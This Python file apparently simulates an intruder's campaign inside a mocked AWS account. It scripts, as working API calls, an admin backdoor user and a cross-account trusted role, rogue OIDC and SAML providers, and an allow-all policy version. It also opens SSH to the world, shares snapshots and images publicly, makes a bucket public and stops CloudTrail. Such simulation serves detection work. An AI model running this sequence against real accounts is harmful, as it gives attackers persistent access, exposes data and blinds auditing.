"""What the intruder does with the key that leaked: the campaigns of the domain facts, as far as moto plays the calls."""

import json

from happened import ACCOUNT, ADMIN, HOME, NEAR, STRANGER, allow, trust
from intruder_machines import burning, starting_again
from intruder_rents import renting

# A certificate nobody uses, as AWS's documentation shows them; moto only stores it.
SAML = """<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="urn:example:intruder"><IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></EntityDescriptor>"""


def plant(account, own):
    account.who = "intruder"
    do = account.do
    do("sts", "GetCallerIdentity")
    do("iam", "ListUsers")
    hands = new_hands(account)
    hands["keyOfKenji"] = ways_back(account, own)
    machines = starting_again(account)
    burns = burning(account)
    rents = renting(account)
    doors(account, own)
    return {**hands, "made": {**machines, **burns, **rents}}


def new_hands(account):
    """A user of his own with everything a user can have, and a role that another account may take."""
    do = account.do
    do("iam", "CreateUser", UserName="support-sync")
    key = do("iam", "CreateAccessKey", UserName="support-sync")["AccessKey"]
    do("iam", "CreateLoginProfile", UserName="support-sync", Password="Example-Passw0rd-his")
    do("iam", "AttachUserPolicy", UserName="support-sync", PolicyArn=ADMIN)
    do("iam", "PutUserPolicy", UserName="support-sync", PolicyName="all", PolicyDocument=allow("*"))
    do("iam", "AddUserToGroup", UserName="support-sync", GroupName="admins")
    device = do("iam", "CreateVirtualMFADevice", VirtualMFADeviceName="support-sync")["VirtualMFADevice"]["SerialNumber"]
    do("iam", "EnableMFADevice", UserName="support-sync", SerialNumber=device, AuthenticationCode1="123456", AuthenticationCode2="654321")
    do("iam", "UploadSSHPublicKey", UserName="support-sync", SSHPublicKeyBody=ssh_key())
    do("iam", "UploadSigningCertificate", UserName="support-sync", CertificateBody=certificate())
    do("iam", "CreateRole", RoleName="AccountSync", AssumeRolePolicyDocument=trust({"AWS": f"arn:aws:iam::{STRANGER}:root"}))
    do("iam", "AttachRolePolicy", RoleName="AccountSync", PolicyArn=ADMIN)
    do("iam", "PutRolePolicy", RoleName="AccountSync", PolicyName="all", PolicyDocument=allow("*"))
    session = do("sts", "AssumeRole", RoleArn=f"arn:aws:iam::{ACCOUNT}:role/AccountSync", RoleSessionName="sync")
    return {"plantedKey": key["AccessKeyId"], "device": device, "session": session["Credentials"]["AccessKeyId"]}


def ways_back(account, own):
    """Changes to what is the owner's, and doors that need no user."""
    do = account.do
    key = do("iam", "CreateAccessKey", UserName="kenji")["AccessKey"]["AccessKeyId"]
    both = {"Service": "ec2.amazonaws.com", "AWS": f"arn:aws:iam::{STRANGER}:root"}
    do("iam", "UpdateAssumeRolePolicy", RoleName="web", PolicyDocument=trust(both))
    do("iam", "PutGroupPolicy", GroupName="readers", PolicyName="all", PolicyDocument=allow("*"))
    do("iam", "AttachGroupPolicy", GroupName="readers", PolicyArn=ADMIN)
    do("iam", "CreatePolicyVersion", PolicyArn=own["limits"], PolicyDocument=allow("*"), SetAsDefault=True)
    do("iam", "CreateOpenIDConnectProvider", Url="https://token.example.net", ClientIDList=["sts.amazonaws.com"], ThumbprintList=["a" * 40])
    do("iam", "CreateSAMLProvider", Name="his", SAMLMetadataDocument=SAML * 6)
    return key


def doors(account, own):
    do = account.do
    ssh = [{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    do("ec2", "AuthorizeSecurityGroupIngress", HOME, GroupId=own["web"], IpPermissions=ssh)
    share = {"Attribute": "createVolumePermission", "OperationType": "add"}
    do("ec2", "ModifySnapshotAttribute", HOME, SnapshotId=own["snapshot"], UserIds=[STRANGER], **share)
    do("ec2", "ModifySnapshotAttribute", HOME, SnapshotId=own["oldSnapshot"], GroupNames=["all"], **share)
    for image, whom in ((own["image"], {"UserId": STRANGER}), (own["oldImage"], {"Group": "all"})):
        do("ec2", "ModifyImageAttribute", HOME, ImageId=image, Attribute="launchPermission", LaunchPermission={"Add": [whom]})
    everybody = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::shop-pictures-123456789012/*"}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [everybody]})
    do("s3", "PutBucketPolicy", HOME, Bucket="shop-pictures-123456789012", Policy=policy)
    do("sns", "SetSMSAttributes", NEAR, attributes={"MonthlySpendLimit": "100"})
    do("ses", "VerifyEmailIdentity", HOME, EmailAddress="sender@example.net")
    do("cloudtrail", "StopLogging", HOME, Name="all")


def ssh_key():
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    public = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
    return public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()


def certificate():
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "example")])
    begin = datetime.datetime(2026, 1, 1)
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
    made = made.not_valid_before(begin).not_valid_after(begin + datetime.timedelta(days=365)).sign(key, hashes.SHA256())
    return made.public_bytes(serialization.Encoding.PEM).decode()
